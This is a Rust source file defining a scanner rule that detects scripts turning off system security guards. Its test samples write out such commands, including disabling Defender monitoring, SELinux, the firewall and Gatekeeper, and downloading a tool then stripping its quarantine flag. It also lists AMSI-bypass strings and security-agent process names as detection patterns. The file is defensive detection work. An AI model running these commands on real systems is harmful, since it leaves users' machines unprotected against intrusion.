//! `execution-security-off`: a guard of the system is switched off.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::collecting_host;
use crate::scan::command;
use crate::scan::language::Language;
use crate::scan::operation::Act;
use crate::scan::rule::{Check, Reporter, Rule, Sample};
use crate::text::Span;

/// The rule.
pub static RULE: Rule = Rule {
    id: "execution-security-off",
    title: "Switches off a guard of the system",
    severity: Severity::Error,
    confidence: Confidence::High,
    why: "Virus scanners, quarantine, firewalls and mandatory access control are what stands between a skill and the rest of the machine.",
    fix: "Leave the guards on; sign what you ship, or tell the person what the system will ask.",
    references: &["ATT&CK T1562.001", "ATT&CK T1553.001", "CWE-693"],
    hits: &[
        Sample::File(
            "a.ps1",
            "Set-MpPreference -DisableRealtimeMonitoring $true\n",
        ),
        Sample::File("a.sh", "setenforce 0\n"),
        Sample::File(
            "a.sh",
            "curl -o tool http://198.51.100.7/tool\nxattr -d com.apple.quarantine tool\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import subprocess\nsubprocess.run(['netsh', 'advfirewall', 'set', 'allprofiles', 'state', 'off'])\n",
        ),
        Sample::File(
            "scripts/a.js",
            "require('child_process').execSync('spctl --master-disable');\n",
        ),
    ],
    misses: &[
        Sample::File("a.sh", "xattr -l tool\n"),
        Sample::File("a.sh", "getenforce\nufw status\n"),
        Sample::File("a.ps1", "Get-MpPreference\n"),
        Sample::File(
            "scripts/a.py",
            "import subprocess\nsubprocess.run(['csrutil', 'status'])\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    let fetches = unit
        .lowered
        .operations
        .iter()
        .any(|operation| matches!(operation.act, Act::Contact { local: false, .. }));
    let strange = unit.lowered.operations.iter().any(|operation| {
        matches!(&operation.act, Act::Contact { address, local: false, .. }
        if address.text.as_deref().is_some_and(|address| {
            address.starts_with("http://") || collecting_host::of_address(address).is_some()
        }))
    });
    if let Some(span) = blinds_scanner(unit) {
        let raised = reporter.raise(span);
        raised.message("Blinds the scanner that looks at scripts");
        if command::is_program(unit) {
            raised.severity(Severity::Blocker);
        }
    }
    // Who switches off several guards wants none of them.
    let all: Vec<_> = command::all(unit)
        .filter_map(|command| weight(&command, fetches, strange))
        .collect();
    let many = all
        .iter()
        .filter(|severity| **severity >= Severity::Error)
        .count()
        >= 3;
    for command in command::all(unit) {
        let Some(severity) = weight(&command, fetches, strange) else {
            continue;
        };
        let severity = if many && severity == Severity::Error && command::is_program(unit) {
            Severity::Blocker
        } else {
            severity
        };
        let raised = reporter.raise(command.span);
        raised.severity(severity);
        if severity == Severity::Blocker {
            raised.message(if many {
                "Switches off one guard of the system after the other"
            } else {
                "Switches off a guard of the system for what it downloads"
            });
        }
    }
}

/// Where a script of PowerShell reaches into the scanner of its host; names are
/// put together from pieces there.
fn blinds_scanner(unit: &Unit) -> Option<Span> {
    if unit.language != Language::PowerShell {
        return None;
    }
    let at = unit
        .text
        .find("GetField(")
        .or_else(|| unit.text.find("VirtualProtect"))?;
    let mut end = unit.text.len().min(256 << 10);
    while !unit.text.is_char_boundary(end) {
        end -= 1;
    }
    let bare: String = unit.text[..end]
        .chars()
        .filter(|letter| !matches!(letter, '\'' | '"' | '+' | ' ' | '`'))
        .map(|letter| letter.to_ascii_lowercase())
        .collect();
    (bare.contains("amsiinitfailed") || bare.contains("amsiscanbuffer"))
        .then(|| Span::new(at, at + "GetField(".len()))
}

fn weight(command: &command::Command<'_>, fetches: bool, strange: bool) -> Option<Severity> {
    const KNOWN: &[&str] = &[
        "set-mppreference",
        "add-mppreference",
        "setenforce",
        "csrutil",
        "spctl",
        "xattr",
        "ufw",
        "netsh",
        "sc",
        "systemctl",
        "auditctl",
        "set-netfirewallprofile",
        "launchctl",
        "iptables",
        "defaults",
        "stop-service",
        "reg",
        "tccutil",
        "pkill",
        "killall",
    ];
    if !command.is(KNOWN) {
        return None;
    }
    let line = command.small();
    let has = |word: &str| line.contains(word);
    let strong = match command.program().to_ascii_lowercase().as_str() {
        "set-mppreference" => has("-disable") && (has("$true") || has(" 1")),
        "add-mppreference" => has("-exclusion") && !is_narrow(&line),
        "setenforce" => has(" 0") || has("permissive"),
        "csrutil" => has("disable"),
        "spctl" => has("--master-disable") || has("--global-disable"),
        "ufw" => has(" disable"),
        "netsh" => has("firewall") && has("off"),
        "set-netfirewallprofile" => has("-enabled") && has("false"),
        "auditctl" => has("-e 0"),
        "pkill" | "killall" => [
            "falcon",
            "sentinel",
            "osqueryd",
            "carbonblack",
            "wdav",
            "clamd",
            "auditd",
        ]
        .iter()
        .any(|name| has(name)),
        "sc" | "stop-service" => {
            ["windefend", "wscsvc", "sense", "mpssvc"]
                .iter()
                .any(|name| has(name))
                && !has("query")
        }
        "reg" => {
            has(" add ")
                && (has("disableantispyware")
                    || has("disablerealtimemonitoring")
                    || has("enablelua"))
        }
        "systemctl" => {
            (has(" stop ") || has(" disable ") || has(" mask "))
                && [
                    "auditd", "apparmor", "falcon", "clamav", "crowdsec", "fail2ban", "osqueryd",
                    "wazuh",
                ]
                .iter()
                .any(|name| has(name))
        }
        _ => false,
    };
    let quarantine = command.is(&["xattr"])
        && (has("com.apple.quarantine") && (has(" -d") || has(" -rd") || has(" -dr"))
            || has(" -c ")
            || has(" -cr ")
            || has(" -rc "));
    match (strong, quarantine) {
        (true, _) if fetches && command.is(&["set-mppreference", "add-mppreference", "spctl"]) => {
            Some(Severity::Blocker)
        }
        (true, _) => Some(Severity::Error),
        // Makers of unsigned tools tell people to do this.
        (false, true) if strange => Some(Severity::Error),
        (false, true) => Some(Severity::Warning),
        (false, false) => None,
    }
}

/// Whether an exclusion names files of one application: a folder below one of a
/// drive that is nobody's home and nothing temporary.
fn is_narrow(line: &str) -> bool {
    let Some((_, path)) = line.split_once("-exclusionpath") else {
        return false;
    };
    let path = path.trim().trim_matches(['"', '\'']);
    let path = path.split(['"', '\'']).next().unwrap_or(path);
    path.matches('\\').count() > 1
        && ![
            "\\users",
            "temp",
            "$",
            "%",
            "appdata",
            "programdata",
            "windows",
            "public",
        ]
        .iter()
        .any(|wide| path.contains(wide))
}
